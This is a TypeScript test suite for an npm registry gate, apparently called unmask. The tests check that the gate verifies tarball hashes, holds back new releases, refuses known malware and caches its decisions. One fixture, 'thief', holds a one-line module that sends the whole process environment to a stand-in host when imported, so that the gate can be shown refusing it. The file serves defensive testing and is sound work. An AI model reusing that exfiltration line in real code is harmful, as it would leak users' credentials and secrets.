import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, rmSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';

import { assertRefused, gating, malware, NOW } from '../../../test/gating.ts';
import { startRegistry, tarball } from '../../../test/registry.ts';
import type { FakePackage } from '../../../test/registry.ts';
import { mergePolicy } from '../../judge/merge-policy.ts';
import { archivesFolder } from '../../remember/files.ts';

const open = gating();
const files = { 'index.js': 'module.exports = text => text.trim();\n' };
const one = (version: FakePackage['versions'][string] = {}, more: Partial<FakePackage> = {}): FakePackage => ({
  versions: { '1.0.0': { files, ...version } },
  ...more,
});
const PATH = 'plain/-/plain-1.0.0.tgz';
/** Steals the environment when it is imported: refused by the policy that is built in. */
const thief = {
  'index.js': `require('https').request('https://collect.invalid/?' + JSON.stringify(process.env)).end();\n`,
};
const script = (name: string): URL => new URL(`../../../test/cli/${name}`, import.meta.url);

describe('an archive', () => {
  it('passes byte for byte, unpacked and whole, also for HEAD and for who asks a part', async () => {
    const { ask } = await open({ packages: { plain: one() } });
    const answer = await ask(PATH, { 'accept-encoding': 'gzip, zstd', range: 'bytes=0-3' });
    assert.equal(answer.status, 200, answer.body.toString());
    assert.deepEqual(answer.body.subarray(0, 2), Buffer.from([0x1f, 0x8b]));
    assert.equal(answer.headers['content-encoding'], undefined);
    assert.equal(Number(answer.headers['content-length']), answer.body.length);
    const head = await ask(PATH, {}, { method: 'HEAD' });
    assert.deepEqual([head.status, head.body.length, head.headers['content-length']], [200, 0, answer.headers['content-length']]);
  });

  it('is refused by what its code does, in words, and forgotten by nobody', async () => {
    const { ask, gate } = await open({ packages: { plain: one({ files: thief }) } });
    const answer = await ask(PATH);
    assertRefused(answer, 'UNMASK_POLICY', /plain@1\.0\.0 is refused by unmask \(UNMASK-\w+\): .*environment/);
    const [decision] = gate.decisions();
    assert.ok((decision?.because.length ?? 0) > 0);
    // The next document leaves it out: those bytes were refused.
    const document = await ask('plain', { accept: 'application/json' });
    assert.deepEqual([document.status, document.json('versions')], [200, {}]);
    const why = await ask(`/-/unmask/why/${decision?.id}`, {}, { root: true });
    assert.match(why.body.toString(), /What it rests on:[^]*environment/);
  });

  it('is refused where its bytes are not those that were promised, by either hash', async () => {
    for (const strip of [[], ['dist.shasum'], ['dist.integrity']]) {
      const { ask } = await open({ packages: { plain: one({ archive: 'corrupt' }, { strip }) } });
      assertRefused(await ask(PATH), 'UNMASK_WRONG_BYTES', /other bytes than it promises: sha(?:512|1)-/);
    }
  });

  it('passes with an old hash alone, and is refused without any unless that is waived', async () => {
    const weak = await open({ packages: { plain: one({}, { strip: ['dist.integrity'] }) } });
    assert.equal((await weak.ask(PATH)).status, 200);
    const strip = ['dist.integrity', 'dist.shasum'];
    const none = await open({ packages: { plain: one({}, { strip }) } });
    assertRefused(await none.ask(PATH), 'UNMASK_NO_INTEGRITY', /promises nothing about its bytes/);
    const waiver = { package: 'plain@1.0.0', detector: 'archive-without-integrity', reason: 'ours', owner: 'kim', until: '2026-12-31' };
    const waived = await open({ packages: { plain: one({}, { strip }) }, policy: { waivers: [waiver] } });
    assert.equal((await waived.ask(PATH)).status, 200);
    const late = await open({ packages: { plain: one({}, { strip }) }, policy: { waivers: [{ ...waiver, until: '2026-08-31' }] } });
    assert.equal((await late.ask(PATH)).status, 403);
  });

  it('is refused where npm says that its lockfile promises other bytes', async () => {
    const { ask } = await open({ packages: { plain: one() } });
    const sha512 = `sha512-${createHash('sha512').update('other').digest('base64')}`;
    assertRefused(await ask(PATH, { 'pacote-integrity': sha512 }), 'UNMASK_WRONG_BYTES', /the lockfile promises other bytes/);
    const right = `sha512-${createHash('sha512')
      .update(tarball({ 'package.json': { name: 'plain', version: '1.0.0' }, ...files }))
      .digest('base64')}`;
    assert.equal((await ask(PATH, { 'pacote-integrity': right })).status, 200);
    // One right hash among others proves nothing: whoever fetches it elsewhere accepts each of them.
    assertRefused(await ask(PATH, { 'pacote-integrity': `${right} ${sha512}` }), 'UNMASK_WRONG_BYTES', /promises other bytes/);
  });

  it('is held against hashes of which its registry says nothing, by its bytes', async () => {
    const { ask } = await open({ packages: { plain: one() } });
    const bytes = tarball({ 'package.json': { name: 'plain', version: '1.0.0' }, ...files });
    for (const algorithm of ['sha256', 'sha384']) {
      const hashOf = (of: string | Uint8Array): string => `${algorithm}-${createHash(algorithm).update(of).digest('base64')}`;
      assert.equal((await ask(PATH, { 'pacote-integrity': hashOf(bytes) })).status, 200, algorithm);
      assertRefused(await ask(PATH, { 'pacote-integrity': hashOf('other') }), 'UNMASK_WRONG_BYTES', /promises other bytes/);
    }
  });

  it('is refused where it is cut off, fails, or leads nowhere', async () => {
    for (const archive of ['truncated', { status: 500 }, { status: 403 }] as const) {
      const { ask } = await open({ packages: { plain: one({ archive }) } });
      assertRefused(await ask(PATH), 'UNMASK_UPSTREAM', /could not be fetched/);
    }
    const { ask } = await open({ packages: { plain: one({ archive: { status: 404 } }) } });
    assert.equal((await ask(PATH)).status, 404);
    const file = await open({ packages: { plain: one({ manifest: { dist: { tarball: 'file:///etc/passwd' } } }) } });
    assertRefused(await file.ask(PATH), 'UNMASK_UPSTREAM', /could not be fetched|neither http nor https/);
  });

  it('is decided again by what its document says: a frozen install never reads that', async () => {
    const young = one({ publishedAt: new Date(NOW - 3_600_000).toISOString() });
    const held = await open({ packages: { plain: young } });
    assertRefused(await held.ask(PATH), 'UNMASK_TOO_NEW', /is held back by unmask/);
    const exception = { package: 'plain@1.0.0', reason: 'a fix', owner: 'kim', until: '2026-09-01' };
    const early = await open({ packages: { plain: young }, policy: { cooldownExceptions: [exception] } });
    assert.equal((await early.ask(PATH)).status, 200);
    assert.deepEqual(
      early.gate.decisions().map(({ outcome, code }) => [outcome, code]),
      [['allow', 'excepted']],
    );
    const bad = await open({ packages: { plain: one() }, records: [malware('plain', '1.0.0')] });
    assertRefused(await bad.ask(PATH), 'UNMASK_MALWARE', /known malware/);
    assert.deepEqual(
      bad.upstream.requests.map(({ path }) => path),
      ['/plain'],
    );
  });

  it('is refused where installing it would fetch more past the gate, and npm is told why', async () => {
    const below = one({ manifest: { dependencies: { elsewhere: 'git+https://git.invalid/a/b.git' } } });
    const { ask, upstream } = await open({ packages: { plain: below } });
    assertRefused(await ask(PATH), 'UNMASK_POLICY', /installing it fetches elsewhere from git\+https:/);
    assert.match(
      String((await ask('plain')).json('policyRestrictions', 'message')),
      /1\.0\.0 \(UNMASK-\w+: installing it fetches elsewhere/,
    );
    assert.ok(upstream.requests.every(({ path }) => path === '/plain'));
  });

  it('is found by the address that its registry gives it, and by none that two versions claim', async () => {
    const registry = await startRegistry({
      'odd-named': {
        versions: {
          '1.0.0': { files },
          '1.0.1': { files, manifest: { dist: { tarball: 'http://REPLACED/odd-named/-/odd-named-1.0.0.tgz' } } },
        },
      },
    });
    try {
      const { ask } = await open({ upstream: registry });
      assertRefused(await ask('odd-named/-/odd-named-1.0.0.tgz'), 'UNMASK_AMBIGUOUS', /more than one version: 1\.0\.0, 1\.0\.1/);
      assert.equal((await ask('odd-named/-/odd-named-9.0.0.tgz')).status, 404);
      assert.equal((await ask('odd-named/-/package.json')).status, 404);
    } finally {
      await registry.close();
    }
  });

  it('is fetched and examined once for all who ask at the same time, and never again after', async () => {
    const packages = { plain: one() };
    const first = await open({ packages });
    const answers = await Promise.all(Array.from({ length: 20 }, () => first.ask(PATH)));
    assert.deepEqual(new Set(answers.map(answer => answer.status)), new Set([200]));
    const archives = (requests: typeof first.upstream.requests): number => requests.filter(({ path }) => path.endsWith('.tgz')).length;
    assert.equal(archives(first.upstream.requests), 1);
    const numbers = (await first.ask('/-/unmask/metrics', {}, { root: true })).body.toString();
    assert.match(numbers, /^unmask_archives_total\{how="examined"\} 1$/m);
    await first.ask(PATH);
    assert.equal(archives(first.upstream.requests), 1);
    assert.match((await first.ask('/-/unmask/metrics', {}, { root: true })).body.toString(), /how="at hand"\} \d/);
  });

  it('is sent without a word of its registry where it was decided about by its hash, and by that alone', async () => {
    const { ask, gate, upstream, home } = await open({ packages: { plain: one(), other: one() } });
    assert.equal((await ask(PATH)).status, 200);
    assert.equal((await ask('other/-/other-1.0.0.tgz')).status, 200);
    const hashOf = (name: string): string =>
      gate
        .decisions()
        .find(decision => decision.name === name)
        ?.integrity.split(' ')
        .find(hash => hash.startsWith('sha512-')) ?? '';
    const asked = async (path: string, integrity: string): Promise<readonly [status: number, byHash: boolean]> => {
      const count = async (): Promise<string> =>
        /how="by hash"\} (\d+)/.exec((await ask('/-/unmask/metrics', {}, { root: true })).body.toString())?.[1] ?? '0';
      const before = await count();
      const { status } = await ask(path, { 'pacote-integrity': integrity });
      return [status, (await count()) !== before];
    };
    assert.deepEqual(await asked(PATH, hashOf('plain')), [200, false]);
    const ruled = { name: 'plain', version: '1.0.0', integrity: hashOf('plain') };
    // Nobody decided about the first three: another version, other bytes, and bytes that are not named by one hash.
    gate.sendByHash([
      { ...ruled, version: '1.0.1' },
      { ...ruled, integrity: hashOf('other') },
      { ...ruled, integrity: `${hashOf('plain')} ${hashOf('other')}` },
    ]);
    assert.deepEqual(await asked(PATH, hashOf('plain')), [200, false]);
    gate.sendByHash([ruled]);
    assert.deepEqual(await asked(PATH, hashOf('plain')), [200, true]);
    assert.deepEqual(await asked(PATH, ''), [200, false]);
    assert.deepEqual(await asked(PATH, hashOf('other')), [403, false]);
    assert.deepEqual(await asked('plain/-/plain-1.0.1.tgz', hashOf('plain')), [404, false]);
    assert.deepEqual(await asked('other/-/other-1.0.0.tgz', hashOf('other')), [200, false]);
    assert.equal(upstream.requests.filter(({ path }) => path.endsWith('plain-1.0.0.tgz')).length, 1);
    // What cannot be read on this disk, or is not there, comes the usual way.
    const archives = archivesFolder(join(home.cwd, '..', 'cache-of-unmask'));
    for (const path of readdirSync(archives, { recursive: true, encoding: 'utf8' }).map(name => join(archives, name))) {
      if (!statSync(path).isFile()) continue;
      rmSync(path);
      mkdirSync(path);
    }
    assert.deepEqual(await asked(PATH, hashOf('plain')), [200, true]);
    rmSync(archives, { recursive: true });
    assert.deepEqual(await asked(PATH, hashOf('plain')), [200, true]);
  });

  it('lies in a cache of the gate, where npm does not find what was refused', async () => {
    const { ask, home } = await open({ packages: { plain: one({ files: thief }) } });
    assert.equal((await ask(PATH)).status, 403);
    assert.ok(!existsSync(home.cache));
    assert.ok(readdirSync(join(home.cwd, '..', 'cache-of-unmask', 'gate')).length > 0);
  });

  it('is refused where its examination dies, and asked again later', async () => {
    const packages = { plain: one({ files: { crash: '' } }) };
    const { ask } = await open({ packages, script: script('misbehaving-child.ts') });
    assertRefused(await ask(PATH), 'UNMASK_UNEXAMINED', /could not be decided, and is refused/);
    const never = await open({ packages: { plain: one() }, script: script('no-such-child.ts') });
    assertRefused(await never.ask(PATH), 'UNMASK_UNEXAMINED', /did not start/);
    const slow = await open({
      packages: { plain: one({ files: { hang: '' } }) },
      script: script('misbehaving-child.ts'),
      settings: mergePolicy({ flags: { from: 'test', scalars: { timeMs: 1500, fileTimeMs: 500 } } }),
    });
    assertRefused(await slow.ask(PATH), 'UNMASK_UNEXAMINED', /./);
  });

  it('may be large, and then waits for its turn', async () => {
    const noise = randomBytes(17 * 1024 * 1024);
    const { ask } = await open({ packages: { plain: one({ files: { ...files, 'data.bin': noise } }) } });
    const answer = await ask(PATH);
    assert.equal(answer.status, 200, answer.body.toString('utf8', 0, 300));
    assert.ok(answer.body.length > noise.length);
  });

  it('is asked for without the prefix too, and below the path of a registry upstream', async () => {
    const { ask, upstream } = await open({ packages: { plain: one() } });
    assert.equal((await ask(`/${PATH}`, {}, { root: true })).status, 200);
    assert.equal((await ask('/plain', {}, { root: true })).status, 404);
    assert.equal(upstream.requests.filter(({ path }) => path === '/plain').length, 1);
  });
});
